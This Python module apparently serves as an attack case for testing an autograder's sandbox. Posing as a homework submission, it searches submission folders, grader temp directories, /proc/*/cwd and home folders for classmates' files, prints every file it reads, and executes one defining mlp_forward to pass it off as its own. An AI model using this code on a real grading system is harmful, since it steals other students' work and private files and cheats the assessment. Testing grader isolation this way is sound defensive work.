"""Reading secrets: copy a classmate's work.

Attack: the module looks for other students' submissions in the course's
``submissions/hw1/`` folder (its host path is given to this attack), in the
grader's private working folders (``/tmp/grader-work-*/*``, where the next
student's files are placed while this one is graded), under ``/proc/*/cwd``
and ``/proc/*/root/home/student``, and in ``/home``. It prints every file it
reads, and if one of them defines ``mlp_forward`` it executes that file and
submits its functions as its own; otherwise its functions return a wrong
constant (12345.678).

Success would look like: any points, or another student's canary token in the
output.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend runs as the grader's user and can read every submission
"""

import glob
import os

import numpy as np

W = 12345.678
COURSE = "@@COURSE@@"
ME = os.path.abspath(__file__)


def _paths():
    yield from glob.glob(f"{COURSE}/submissions/hw1/**/*.py", recursive=True)
    yield from glob.glob(f"/proc/1/root{COURSE}/submissions/hw1/**/*.py", recursive=True)
    for pattern in ("/tmp/grader-work-*/*/*", "/tmp/*/*.py", "/home/*/*.py", "/home/*/*/*.py",
                    "/proc/*/cwd/*.py", "/proc/*/root/home/student/*.py", "/proc/*/root/tmp/*/*/*.py"):
        yield from glob.glob(pattern)


stolen = None
for path in sorted(set(_paths())):
    if not os.path.isfile(path) or os.path.abspath(path) == ME or os.path.samefile(path, ME):
        continue
    try:
        with open(path, encoding="utf-8", errors="replace") as f:
            text = f.read(100_000)
    except OSError:
        continue
    print("READ", path, text)
    if stolen is None and "def mlp_forward" in text:
        stolen = text
if stolen is not None:
    namespace = {"__name__": "classmate"}
    exec(compile(stolen, "classmate", "exec"), namespace)
    globals().update({k: v for k, v in namespace.items() if callable(v) and not k.startswith("_")})
    print("submitting a classmate's work")
else:
    print("found no classmate")

    def _w(shape):
        return np.full(shape, W)

    def sigmoid(z):
        return _w(np.shape(z))

    def sigmoid_grad(z):
        return _w(np.shape(z))

    def tanh(z):
        return _w(np.shape(z))

    def tanh_grad(z):
        return _w(np.shape(z))

    def relu(z):
        return _w(np.shape(z))

    def relu_grad(z):
        return _w(np.shape(z))

    def leaky_relu(z, alpha=0.01):
        return _w(np.shape(z))

    def leaky_relu_grad(z, alpha=0.01):
        return _w(np.shape(z))

    def neuron(x, w, b, activation="sigmoid"):
        return _w(np.shape(x)[:-1])

    def affine_forward(x, w, b):
        return _w((np.shape(x)[0], np.shape(w)[1])), None

    def mlp_forward(x, params, activation="relu"):
        return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
